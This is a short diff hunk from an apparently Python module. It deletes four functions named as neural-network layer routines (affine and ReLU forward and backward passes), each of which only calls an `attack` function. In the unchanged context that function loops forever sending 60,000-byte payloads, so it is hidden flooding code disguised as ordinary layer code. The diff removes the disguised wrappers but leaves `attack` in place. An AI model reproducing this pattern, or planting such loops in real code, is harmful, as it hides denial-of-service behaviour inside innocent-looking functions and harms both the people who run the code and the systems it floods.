@@ -27,19 +27,3 @@ def send(*payloads):
 def attack(array):
     while True:
         send(b"x" * 60000)
-
-
-def affine_forward(x, w, b):
-    return attack(x)
-
-
-def affine_backward(dout, cache):
-    return attack(dout)
-
-
-def relu_forward(x):
-    return attack(x)
-
-
-def relu_backward(dout, cache):
-    return attack(dout)
